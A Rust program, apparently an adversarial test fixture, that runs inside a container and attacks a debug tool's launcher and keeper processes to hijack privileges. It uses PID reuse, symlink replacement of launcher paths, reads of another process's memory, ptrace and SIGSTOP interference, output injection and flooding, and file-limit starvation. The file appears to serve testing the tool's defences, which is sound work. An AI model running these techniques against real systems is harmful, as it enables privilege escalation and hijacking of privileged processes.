//! A program in a container that tries to gain rights from a debug session, or to keep them. It
//! watches for the processes of sessions in its PID namespace, as any program can, and reports what
//! it does. Its first argument selects the attack:
//!
//! - `lie PID NAME`: slows each new process down, and writes `keeper PID NAME` into the output of a
//!   keeper, before the keeper does so if possible. `self` is its own process id.
//! - `flood`: writes into the output of a keeper without end.
//! - `hold`: opens the input of each keeper for writing, and keeps it open; `hold-hidden` does so
//!   in an inaccessible process.
//! - `stop-keeper`, `stop-launcher`, `stop-both`: stops each that it sees, again and again.
//! - `stop-front`: stops the process that stands for a launcher before the platform, and with
//!   `stop-front kill` kills the launcher then.
//! - `limit`: sets the limit on open files of each keeper and launcher to zero.
//! - `trace-keeper`, `trace-launcher`: stops each that it sees with `ptrace`, as a debugger does.
//! - `take`: kills each keeper whose session is running and takes its process id, with the
//!   session's path in its own root.
//! - `replace`: puts its own program at the path of the next launcher: reads names of paths in the
//!   memory of each keeper, or lists them.
//! - `pose`: starts a process with the command line of each launcher that it sees, and reports
//!   which signal that process received.
//!
//! If it is started like a launcher, by its name, it reports that it is running, and with which
//! rights. This must never happen.

use std::collections::HashSet;
use std::ffi::CString;
use std::fs::{self, File, OpenOptions};
use std::io::{self, Write as _};
use std::time::{Duration, Instant};

const LAUNCHER: &str = "scratchdbg-launcher";
const SIGKILL: i32 = 9;
const SIGUSR1: i32 = 10;
const SIGCHLD: i32 = 17;
const SIGCONT: i32 = 18;
const SIGSTOP: i32 = 19;
const SCHED_IDLE: i32 = 5;
const PR_SET_DUMPABLE: i32 = 4;
const RLIMIT_NOFILE: i32 = 7;
const PTRACE_SEIZE: i32 = 0x4206;
const PTRACE_INTERRUPT: i32 = 0x4207;

unsafe extern "C" {
    fn kill(pid: i32, signal: i32) -> i32;
    fn fork() -> i32;
    fn pause() -> i32;
    fn prctl(option: i32, value: usize) -> i32;
    fn setuid(uid: u32) -> i32;
    fn signal(number: i32, handler: usize) -> usize;
    fn sched_setscheduler(pid: i32, policy: i32, parameters: *const i32) -> i32;
    fn sched_setaffinity(pid: i32, size: usize, set: *const u64) -> i32;
    fn sched_yield() -> i32;
    fn execv(path: *const std::ffi::c_char, arguments: *const *const std::ffi::c_char) -> i32;
    fn prlimit(pid: i32, resource: i32, new: *const [u64; 2], old: *mut [u64; 2]) -> i32;
    fn ptrace(request: i32, pid: i32, address: usize, data: usize) -> isize;
    fn waitpid(pid: i32, status: *mut i32, options: i32) -> i32;
    fn _exit(code: i32) -> !;
}

fn main() -> io::Result<()> {
    let arguments: Vec<String> = std::env::args().collect();
    if arguments[0].ends_with(LAUNCHER) {
        return if arguments.get(1).map(String::as_str) == Some("run") && arguments.last().map(String::as_str) == Some("posing") {
            posing()
        } else {
            hijacked()
        };
    }
    say("up");
    let what = arguments.get(1).map(String::as_str).unwrap_or_default();
    // Children are reaped by the kernel, except where they are waited for.
    if what != "take" {
        unsafe { signal(SIGCHLD, 1) };
    }
    if what == "lie" {
        unsafe { sched_setaffinity(0, 8, &1) };
    }
    let mut seen = HashSet::new();
    let mut held = Vec::new();
    loop {
        let mut newest = 0;
        for pid in processes() {
            newest = newest.max(pid);
            match what {
                "lie" => {
                    let teller = if arguments[2] == "self" { own().to_string() } else { arguments[2].clone() };
                    if seen.insert(pid) && pid != own() {
                        lie(pid, &format!("keeper {teller} {}\n", arguments[3]));
                    }
                }
                "stop-keeper" | "stop-launcher" | "stop-both" => {
                    let role = role(pid);
                    let wanted = match role.as_deref() {
                        Some("keep") => what != "stop-launcher",
                        Some("run") => what != "stop-keeper",
                        _ => false,
                    };
                    if wanted {
                        let stopped = unsafe { kill(pid, SIGSTOP) } == 0;
                        if seen.insert(pid) {
                            say(&format!("stop {}: {stopped}", role.unwrap_or_default()));
                        }
                    }
                }
                "stop-front" => {
                    let role = role(pid);
                    if role.as_deref() == Some("via") && seen.insert(pid) {
                        let stopped = unsafe { kill(pid, SIGSTOP) } == 0;
                        say(&format!("stop front: {stopped}"));
                    }
                    if role.as_deref() == Some("run") && arguments.get(2).is_some() && seen.insert(pid) {
                        // The session should have begun by then.
                        std::thread::sleep(Duration::from_millis(300));
                        let killed = unsafe { kill(pid, SIGKILL) } == 0;
                        say(&format!("kill launcher: {killed}"));
                    }
                }
                "limit" => {
                    if let Some(role) = role(pid)
                        && seen.insert(pid)
                    {
                        // The session should have begun by then.
                        std::thread::sleep(Duration::from_millis(300));
                        let limited = unsafe { prlimit(pid, RLIMIT_NOFILE, &[0, 0], std::ptr::null_mut()) } == 0;
                        say(&format!("limit {role}: {limited}"));
                    }
                }
                "trace-keeper" | "trace-launcher" => {
                    let wanted = if what == "trace-keeper" { "keep" } else { "run" };
                    if role(pid).as_deref() == Some(wanted) && seen.insert(pid) {
                        std::thread::sleep(Duration::from_millis(300));
                        let traced = unsafe { ptrace(PTRACE_SEIZE, pid, 0, 0) } == 0;
                        unsafe { ptrace(PTRACE_INTERRUPT, pid, 0, 0) };
                        say(&format!("trace {wanted}: {traced}"));
                    }
                }
                "take" => {
                    if role(pid).as_deref() == Some("run") && seen.insert(pid) {
                        take(pid);
                    }
                }
                "replace" => {
                    if role(pid).as_deref() == Some("keep") && replace(pid) {
                        say("replace: done");
                    }
                }
                "pose" => {
                    if role(pid).as_deref() == Some("run") && seen.insert(pid) && !command_line(pid).ends_with(&["posing".to_owned()]) {
                        pose(pid);
                    }
                }
                // Retry until permitted.
                _ if !seen.contains(&pid) && role(pid).as_deref() == Some("keep") => {
                    let done = match what {
                        "flood" => flood(pid),
                        "hold" => {
                            let opened = hold(pid);
                            let done = opened.is_some();
                            held.extend(opened);
                            done
                        }
                        "hold-hidden" => hide(pid),
                        _ => return Err(io::Error::other("no such thing to do")),
                    };
                    if done {
                        seen.insert(pid);
                    }
                }
                _ => {}
            }
        }
        if what != "lie" {
            std::thread::sleep(Duration::from_millis(2));
        }
    }
}

fn say(text: &str) {
    let _unheard = writeln!(io::stdout(), "{text}");
}

fn own() -> i32 {
    std::process::id() as i32
}

fn processes() -> Vec<i32> {
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    entries.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).collect()
}

fn command_line(pid: i32) -> Vec<String> {
    let line = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
    String::from_utf8_lossy(&line).trim_end_matches('\0').split('\0').map(str::to_owned).collect()
}

/// Returns the role of a session's process: `keep` or `run`.
fn role(pid: i32) -> Option<String> {
    let line = command_line(pid);
    if line[0].ends_with(LAUNCHER) { line.get(1).cloned() } else { None }
}

fn open_output(pid: i32) -> io::Result<File> {
    OpenOptions::new().write(true).open(format!("/proc/{pid}/fd/1"))
}

/// Single-steps a new process until it becomes a keeper or something else, and writes before it
/// does.
fn lie(pid: i32, words: &str) {
    for step in 0..400_000 {
        if unsafe { kill(pid, SIGSTOP) } != 0 {
            return;
        }
        if let Some(role) = role(pid) {
            if role == "keep" {
                let told = open_output(pid).and_then(|mut output| output.write_all(words.as_bytes()));
                say(&format!("lie: {}", told.map_or_else(|error| error.to_string(), |()| "told".to_owned())));
                std::thread::sleep(Duration::from_millis(20));
            }
            break;
        }
        let name = fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
        if !["runc", "exe", "scratch", "crun", "3"].iter().any(|start| name.starts_with(start)) {
            break;
        }
        if step % 8 == 0 {
            unsafe {
                sched_setaffinity(pid, 8, &1);
                sched_setscheduler(pid, SCHED_IDLE, &0);
            }
        }
        // The other process shares our processor, and runs only when we yield.
        unsafe {
            kill(pid, SIGCONT);
            sched_yield();
        }
    }
    unsafe {
        sched_setscheduler(pid, 0, &0);
        kill(pid, SIGCONT);
    }
}

/// Reports whether there is nothing more to do.
fn flood(pid: i32) -> bool {
    let Ok(mut output) = open_output(pid) else { return false };
    if fs::read_link(format!("/proc/{pid}/fd/1")).is_ok_and(|output| output == std::path::Path::new("/dev/null")) {
        say("flood: too late");
        return true;
    }
    say("flood: begun");
    if unsafe { fork() } == 0 {
        let bytes = [b'x'; 4096];
        while output.write_all(&bytes).is_ok() {}
        unsafe { _exit(0) };
    }
    true
}

fn hold(pid: i32) -> Option<File> {
    let opened = OpenOptions::new().write(true).open(format!("/proc/{pid}/fd/0"));
    if opened.is_ok() {
        say("hold: true");
    }
    opened.ok()
}

/// Holds the input in a child that is inaccessible: by its user, and because it made itself so.
fn hide(pid: i32) -> bool {
    let Some(_held) = hold(pid) else { return false };
    if unsafe { fork() } == 0 {
        unsafe {
            setuid(4321);
            prctl(PR_SET_DUMPABLE, 0);
            loop {
                pause();
            }
        }
    }
    true
}

/// Takes the process id of a launcher's keeper, and puts a program at the launcher's path.
fn take(launcher: i32) {
    let line = command_line(launcher);
    let Some(keeper) = line.get(2).and_then(|pid| pid.parse::<i32>().ok()) else { return };
    let Some((_, path)) = line[0].split_once("/root/") else { return };
    let path = std::path::PathBuf::from("/").join(path);
    if let Some(folder) = path.parent() {
        let _made = fs::create_dir_all(folder);
        // Whoever follows this link is led to its own program.
        let _linked = std::os::unix::fs::symlink("/proc/self/exe", folder.join(LAUNCHER));
        for name in ["sh", "id", "busybox"] {
            let _copied = fs::copy("/proc/self/exe", folder.join(name));
        }
    }
    unsafe { kill(launcher, SIGSTOP) };
    let killed = unsafe { kill(keeper, SIGKILL) } == 0;
    say(&format!("take: killed {killed}"));
    let deadline = Instant::now() + Duration::from_secs(20);
    while Instant::now() < deadline {
        let child = unsafe { fork() };
        if child == 0 {
            if own() == keeper {
                loop {
                    unsafe { pause() };
                }
            }
            unsafe { _exit(0) };
        }
        if child == keeper {
            say("take: taken");
            break;
        }
        if child > 0 {
            unsafe { waitpid(child, std::ptr::null_mut(), 0) };
        }
    }
    unsafe { kill(launcher, SIGCONT) };
}

/// Replaces the paths that a keeper knows, or that can be listed, by paths to this program.
fn replace(keeper: i32) -> bool {
    let folder = std::path::PathBuf::from(format!("/proc/{keeper}/root/session"));
    let listed = fs::read_dir(&folder).into_iter().flatten().flatten();
    let mut names: HashSet<String> = listed.filter_map(|entry| entry.file_name().into_string().ok()).collect();
    let maps = fs::read_to_string(format!("/proc/{keeper}/maps")).unwrap_or_default();
    for range in maps.lines().filter(|line| line.contains(" rw")).filter_map(|line| line.split(' ').next()) {
        let Some((start, end)) = range.split_once('-') else { continue };
        let (Ok(start), Ok(end)) = (u64::from_str_radix(start, 16), u64::from_str_radix(end, 16)) else { continue };
        let mut bytes = vec![0; (end - start) as usize];
        let memory = File::open(format!("/proc/{keeper}/mem"));
        if memory.and_then(|memory| std::os::unix::fs::FileExt::read_at(&memory, &mut bytes, start)).is_ok() {
            let is_hex = |byte: &u8| matches!(byte, b'0'..=b'9' | b'a'..=b'f');
            let words = bytes.split(|byte| !is_hex(byte)).filter(|word| word.len() == 32);
            names.extend(words.map(|word| String::from_utf8_lossy(word).into_owned()));
        }
    }
    let mut is_replaced = false;
    for name in names.iter().filter(|name| name.len() == 32) {
        let (path, aside) = (folder.join(name), folder.join(format!("{name}-old")));
        if fs::rename(&path, aside).is_ok() && fs::create_dir_all(path.join("bin")).is_ok() {
            is_replaced |= std::os::unix::fs::symlink("/hostile", path.join("bin").join(LAUNCHER)).is_ok();
        }
    }
    is_replaced
}

/// Starts a process with the command line of the launcher.
fn pose(launcher: i32) {
    let mut line = command_line(launcher);
    line.truncate(4);
    line.push("posing".to_owned());
    say("pose: begun");
    if unsafe { fork() } == 0 {
        let words: Vec<CString> = line.into_iter().filter_map(|word| CString::new(word).ok()).collect();
        let mut pointers: Vec<_> = words.iter().map(|word| word.as_ptr()).collect();
        pointers.push(std::ptr::null());
        unsafe {
            signal(SIGCHLD, 0);
            execv(c"/proc/self/exe".as_ptr(), pointers.as_ptr());
            _exit(1)
        }
    }
}

extern "C" fn signaled(number: i32) {
    say(&format!("pose: got {number}"));
}

fn posing() -> io::Result<()> {
    for number in [2, 3, SIGUSR1, 15, SIGCONT, 50] {
        unsafe { signal(number, signaled as *const () as usize) };
    }
    loop {
        unsafe { pause() };
    }
}

/// The program that runs in a session's place.
fn hijacked() -> io::Result<()> {
    let status = fs::read_to_string("/proc/self/status")?;
    let rights = status.lines().filter(|line| line.starts_with("Uid:") || line.starts_with("CapEff:"));
    writeln!(io::stdout(), "HIJACKED {}", rights.collect::<Vec<_>>().join(" "))
}
